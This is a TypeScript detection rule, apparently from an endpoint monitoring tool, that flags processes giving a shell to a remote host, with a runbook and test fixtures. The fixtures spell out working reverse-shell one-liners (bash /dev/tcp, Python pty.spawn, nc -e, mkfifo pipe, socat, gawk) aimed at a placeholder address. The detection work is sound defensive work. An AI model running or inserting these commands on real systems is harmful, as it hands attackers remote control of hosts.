import { commandsOf, isProgram } from '../../src/detect/reading/command.ts'
import {
  asTyped,
  isProgramStart,
  PROGRAM_START_TABLES,
  shortened,
  toldProgram,
} from '../../src/detect/reading/program-start.ts'
import { givesShellAway } from '../../src/detect/reading/remote-code.ts'
import { joining, rule, table } from '../../src/detect/rule.ts'

export default rule({
  id: 'posix.reverse-shell',
  title: 'Program gives a shell to another host',
  severity: 'critical',
  on: joining(table(...PROGRAM_START_TABLES, 'processes'), 'parent_path'),
  attack: ['T1059.004', 'T1059.006', 'T1071'],
  detect: ({ columns }) =>
    isProgramStart(columns) && (givesShellAway(asTyped(columns.cmdline)) || talksFromAwk(columns.cmdline)),
  alertTitle: ({ host, columns }) => `A shell on ${host} is given away: ${shortened(columns.cmdline)}`,
  context: ({ columns }) => toldProgram(columns),
  means:
    'This command ties a shell to a network connection. Whoever is at the other end types commands here as the user of the process. It is what intruders do in the minute in which they get in.',
  check:
    'SELECT p.pid, p.name, p.path, p.cmdline, p.parent, p.uid, p.start_time, s.remote_address, s.remote_port FROM processes p LEFT JOIN process_open_sockets s USING (pid) WHERE s.remote_port > 0;',
  benign: 'Penetration tests and trainings; ask those who run them before you stop them.',
  runbook:
    'Isolate the host. Keep the list of processes and connections, then look at the parent of the process: a web server or database points to the way in. Look for the other address on all hosts, and for what the shell started (process events by parent).',
  references: ['https://attack.mitre.org/techniques/T1059/004/'],
  tests: [
    {
      name: 'bash over /dev/tcp, as audit joins it',
      match: true,
      table: 'process_events',
      columns: {
        pid: '4242',
        path: '/usr/bin/bash',
        cmdline: 'bash -c bash -i >& /dev/tcp/198.51.100.7/4444 0>&1',
        cwd: '/var/www',
        parent: '900',
        uid: '33',
        euid: '33',
        auid: '4294967295',
        time: '1700000000',
        parent_path: '/usr/sbin/apache2',
      },
      title: 'A shell on test-host is given away: bash -c bash -i >& /dev/tcp/198.51.100.7/4444 0>&1',
      dedup: 'test-host-id',
      severity: 'critical',
      context: {
        program: '/usr/bin/bash',
        command: 'bash -c bash -i >& /dev/tcp/198.51.100.7/4444 0>&1',
        pid: '4242',
        parent: '900',
        parent_program: '/usr/sbin/apache2',
        folder: '/var/www',
        uid: '33',
        euid: '33',
        login: '4294967295',
        time: '1700000000',
      },
    },
    {
      name: 'Python, its quotes lost',
      match: true,
      table: 'process_events',
      columns: {
        path: '/usr/bin/python3.12',
        cmdline:
          'python3 -c import socket,os,pty;s=socket.socket();s.connect(("198.51.100.7",4444));os.dup2(s.fileno(),0);pty.spawn("/bin/sh")',
      },
    },
    {
      name: 'netcat, told by an older agent',
      match: true,
      table: 'bpf_process_events',
      columns: { path: '/usr/bin/nc', cmdline: 'nc -e /bin/sh 198.51.100.7 4444', syscall: 'execve' },
    },
    {
      name: 'on a Mac',
      match: true,
      table: 'es_process_events',
      columns: {
        path: '/bin/zsh',
        cmdline: 'zsh -c mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 198.51.100.7 4444 > /tmp/f',
        event_type: 'exec',
      },
    },
    {
      name: 'seen while it runs',
      match: true,
      table: 'processes',
      columns: { cmdline: 'socat TCP:198.51.100.7:443 EXEC:/bin/bash,pty,stderr' },
    },
    {
      name: 'awk',
      match: true,
      table: 'process_events',
      columns: {
        cmdline:
          'awk BEGIN {s = "/inet/tcp/0/198.51.100.7/4444"; while (1) { s |& getline c; while ((c |& getline) > 0) print |& s } }',
      },
    },
    {
      name: 'asks whether a port is open',
      match: false,
      table: 'process_events',
      columns: { path: '/usr/bin/bash', cmdline: 'bash -c </dev/tcp/db.example.com/5432' },
    },
    {
      name: 'a tunnel for a service',
      match: false,
      table: 'process_events',
      columns: { cmdline: 'socat TCP-LISTEN:8080,fork TCP:localhost:80' },
    },
    {
      name: 'a port is probed',
      match: false,
      table: 'process_events',
      columns: { cmdline: 'nc -z db.example.com 5432' },
    },
    {
      name: 'a shell on another host',
      match: false,
      table: 'process_events',
      columns: { cmdline: 'ssh ada@example.com bash -i' },
    },
    {
      name: 'awk that reads a column',
      match: false,
      table: 'process_events',
      columns: { cmdline: 'awk {print $1} /etc/hosts' },
    },
    {
      name: 'the process ends',
      match: false,
      table: 'es_process_events',
      columns: { cmdline: 'nc -e /bin/sh 198.51.100.7 4444', event_type: 'exit' },
    },
    {
      name: 'the row leaves the result',
      match: false,
      action: 'removed',
      table: 'processes',
      columns: { cmdline: 'nc -e /bin/sh 198.51.100.7 4444' },
    },
  ],
})

/** GNU awk opens a connection by a name of a file, and runs what comes out of it. */
function talksFromAwk(cmdline: string): boolean {
  return (
    cmdline.includes('/inet/tcp/0/') &&
    cmdline.includes('|&') &&
    commandsOf(cmdline).some(command => isProgram(command, 'awk', 'gawk'))
  )
}
